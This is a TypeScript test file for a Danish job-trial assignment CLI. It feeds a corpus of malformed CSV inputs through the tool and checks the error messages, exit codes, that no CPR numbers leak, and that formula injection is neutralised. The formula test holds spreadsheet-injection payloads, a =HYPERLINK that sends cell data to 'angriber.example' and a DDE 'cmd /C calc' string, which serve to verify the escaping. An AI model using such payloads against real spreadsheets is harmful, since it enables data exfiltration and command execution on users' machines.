/**
 * The bad-input corpus (issue 17): every file in fixtures/bad-input/ given to
 * `jobtrial assign`, each with the Danish line a user must see, the exit code,
 * and what may be written. Plus a 200 MB file made at test time in a temp
 * folder (refused before it is read, with the limit), and formulas in cells,
 * which the staff list must never write back so that a spreadsheet runs them.
 *
 * Over all of them: no CPR number, birth date or name from the corpus in
 * stdout, stderr or any file but the staff list.
 */
import { closeSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, writeSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { run } from "./helpers.ts";

const corpus = join(import.meta.dirname, "fixtures", "bad-input");
const now = new Date("2017-03-01T12:00:00Z");
const scratch = mkdtempSync(join(tmpdir(), "jobtrial-bad-input-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const REFUSED = "intet er skrevet for uge 2017-W02";

/** Each corpus file: the exit code and the Danish lines (in order) stderr or stdout must hold. */
const EXPECTED: Record<string, { code: 0 | 1; lines: string[] }> = {
  "empty.csv": { code: 1, lines: ["empty.csv: filen har ingen overskriftsrække; dan listen igen med kolonnenavnene i første linje", REFUSED] },
  "header-only.csv": { code: 0, lines: ["Rækker i filen:        0 (Ny 0, Allerede tildelt 0, Ikke i målgruppen 0, Ugyldig 0, Gentagelse 0)"] },
  "wrong-delimiter.csv": { code: 1, lines: ['wrong-delimiter.csv: række 1, kolonne "CPR-nummer": en kolonne, der skal være der, mangler', REFUSED] },
  "mixed-delimiters.csv": { code: 1, lines: ["mixed-delimiters.csv: række 3: rækken har 1 felt, men overskriften har 7; se efter et skilletegn for meget eller for lidt i rækken", REFUSED] },
  "windows-1252.csv": { code: 0, lines: ["Rækker i filen:        2 (Ny 2,"] },
  "utf-16.csv": { code: 0, lines: ["Rækker i filen:        3 (Ny 3,"] },
  "bom-twice.csv": { code: 0, lines: ["Rækker i filen:        3 (Ny 3,"] },
  "unterminated-quote.csv": { code: 1, lines: ['unterminated-quote.csv: række 3: en værdi i anførselstegn bliver aldrig afsluttet; afslut værdien med et anførselstegn; skriv et anførselstegn inde i en værdi som to ("")', REFUSED] },
  "extra-column.csv": { code: 1, lines: ["extra-column.csv: række 3: rækken har 8 felter, men overskriften har 7", REFUSED] },
  "missing-column.csv": { code: 1, lines: ["missing-column.csv: række 3: rækken har 5 felter, men overskriften har 7", REFUSED] },
  "missing-header-column.csv": { code: 1, lines: ['missing-header-column.csv: række 1, kolonne "Første ledighedsdag": en kolonne, der skal være der, mangler', REFUSED] },
  "duplicate-header.csv": { code: 1, lines: ['duplicate-header.csv: række 1, kolonne "CPR-nummer": kolonnen står to gange i overskriften (også som kolonne 1); fjern eller omdøb den ene af de to kolonner', REFUSED] },
  "excel-serial-in-csv.csv": { code: 1, lines: ['excel-serial-in-csv.csv: række 3, kolonne "Første ledighedsdag": værdien er ikke en dato i en kendt form', REFUSED] },
  "two-digit-year.csv": { code: 1, lines: ['two-digit-year.csv: række 3, kolonne "Første ledighedsdag": værdien er ikke en dato i en kendt form; skriv datoen som dd-mm-åååå', REFUSED] },
  "future-date.csv": { code: 0, lines: ["Ikke i målgruppen:     1 (første ledighedsdag efter indtagsperioden 1)"] },
  "cpr-nine-digits.csv": { code: 1, lines: ['cpr-nine-digits.csv: række 3, kolonne "CPR-nummer": CPR-nummeret har 9 cifre, og det giver ikke et gyldigt CPR-nummer at tilføje det foranstillede nul', REFUSED] },
  "cpr-eleven-digits.csv": { code: 1, lines: ['cpr-eleven-digits.csv: række 3, kolonne "CPR-nummer": CPR-nummeret har ikke 10 cifre', REFUSED] },
  "cpr-letters.csv": { code: 1, lines: ['cpr-letters.csv: række 3, kolonne "CPR-nummer": CPR-nummeret indeholder andet end cifre og én bindestreg', REFUSED] },
  "spaces.csv": { code: 1, lines: ['spaces.csv: række 4, kolonne "CPR-nummer": CPR-nummeret indeholder andet end cifre og én bindestreg', REFUSED] },
  "formula.csv": { code: 0, lines: ["Rækker i filen:        3 (Ny 3,"] },
};

/** What must never leave the staff list: every CPR number (with and without dash), birth date and name in the corpus. */
function secretsOf(text: string): string[] {
  const secrets = new Set<string>();
  for (const match of text.matchAll(/(\d{6})-?(\d{4})/g)) {
    const [, date, serial] = match as unknown as [string, string, string];
    secrets.add(`${date}-${serial}`).add(`${date}${serial}`);
    const [day, month, year] = [date.slice(0, 2), date.slice(2, 4), date.slice(4, 6)];
    secrets.add(`${day}.${month}.19${year}`).add(`19${year}-${month}-${day}`).add(`${day}-${month}-19${year}`);
  }
  for (const match of text.matchAll(/(Borger \d|Søren Ærø Åberg|Bjørn Æblegård|HYPERLINK)/g)) secrets.add(match[1]!);
  return [...secrets];
}

/** Every file under a folder, but the staff lists and the register (the places CPR numbers and names belong). */
function filesOutsideStaffLists(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && !/-liste\.(csv|xlsx)$/.test(entry.name) && entry.name !== "register.sqlite")
    .map((entry) => join(entry.parentPath, entry.name));
}

async function assignFile(path: string, out: string) {
  return run(["assign", "--config", "data/esbjerg-2017/trial.json", "--register", join(out, "register.sqlite"), "--intake", path, "--week", "2017-W02", "--out", out], { now });
}

describe("the bad-input corpus through jobtrial assign", () => {
  const files = readdirSync(corpus).filter((name) => name.endsWith(".csv")).sort();

  it("the corpus holds exactly the files the table expects (a new file needs its expected message)", () => {
    expect(files).toEqual(Object.keys(EXPECTED).sort());
  });

  it.each(files)("%s gives its Danish message and exit code, writes nothing when refused, and leaks no CPR number, birth date or name", async (name) => {
    const out = mkdtempSync(join(scratch, "case-"));
    const result = await assignFile(join(corpus, name), out);
    const expected = EXPECTED[name]!;
    const said = result.stderr + result.stdout;
    expect(result.code).toBe(expected.code);
    for (const line of expected.lines) expect(said).toContain(line);
    expect(said).not.toMatch(/intern fejl|internal error|\bError\b/);
    if (expected.code === 1) expect(readdirSync(out).filter((entry) => entry.endsWith("-liste.csv"))).toEqual([]);
    const secrets = secretsOf(new TextDecoder(name === "utf-16.csv" ? "utf-16le" : name === "windows-1252.csv" ? "latin1" : "utf-8").decode(readFileSync(join(corpus, name))));
    expect(secrets.length).toBeGreaterThan(name === "empty.csv" || name === "header-only.csv" ? -1 : 2);
    const outside = [said, ...filesOutsideStaffLists(out).map((path) => readFileSync(path).toString("latin1") + readFileSync(path, "utf8"))];
    for (const text of outside) for (const secret of secrets) expect(text).not.toContain(secret);
  });

  it("formulas in cells (=HYPERLINK, @, +) are written to the staff list as text: with a leading apostrophe in the CSV, as shared strings and never as formulas in the XLSX", async () => {
    const out = mkdtempSync(join(scratch, "formula-"));
    expect((await assignFile(join(corpus, "formula.csv"), out)).code).toBe(0);
    const csvName = readdirSync(out).find((entry) => entry.endsWith("-liste.csv"))!;
    const cells = readFileSync(join(out, csvName), "utf8").split("\r\n").slice(1, 4).map((line) => line.split(";")[2]);
    expect(cells).toEqual(['"\'=HYPERLINK(""http://angriber.example/?x=""&A2', "\"'@SUM(1+1)*cmd|' /C calc'!A0\"", "\"'+45 12 34 56 78\""]);
    const { default: excel } = await import("exceljs");
    const workbook = new excel.Workbook();
    await workbook.xlsx.readFile(join(out, csvName.replace(/\.csv$/, ".xlsx")));
    const column = workbook.worksheets[0]!.getColumn(3).values.slice(2, 5);
    expect(column).toEqual(['=HYPERLINK("http://angriber.example/?x="&A2;"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+45 12 34 56 78"]);
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(excel.ValueType.Formula)));
  });

  it("a 200 MB intake file is refused before it is read, with the limit, and nothing is written", async () => {
    const out = mkdtempSync(join(scratch, "large-"));
    const path = join(out, "2017-W02.csv");
    // 200 MB of real rows, written a megabyte at a time (the test never holds the file).
    const fd = openSync(path, "w");
    const block = Buffer.from("030180-0134;09-01-2017;Handel og service;3F;Faglært;Dansk\r\n".repeat(17_000));
    writeSync(fd, "CPR-nummer;Første ledighedsdag;Branchegruppe;A-kasse;Uddannelse;Herkomst\r\n");
    for (let written = 0; written < 200 * 1024 * 1024; written += block.length) writeSync(fd, block);
    closeSync(fd);
    const before = process.memoryUsage().rss;
    const result = await assignFile(path, out);
    rmSync(path);
    expect([result.code, result.stderr.split("\n")[0]]).toEqual([
      1,
      "2017-W02.csv: filen er for stor (201 MB); jobtrial læser filer på højst 100 MB; kontroller, at det er den rigtige fil; del en efterregistrering op i flere filer (én pr. uge eller måned), og giv dem én ad gangen eller som en mappe",
    ]);
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);
    // The register is opened (created empty) before the intake is read; no batch, no list.
    expect(readdirSync(out)).toEqual(["register.sqlite"]);
  });
});
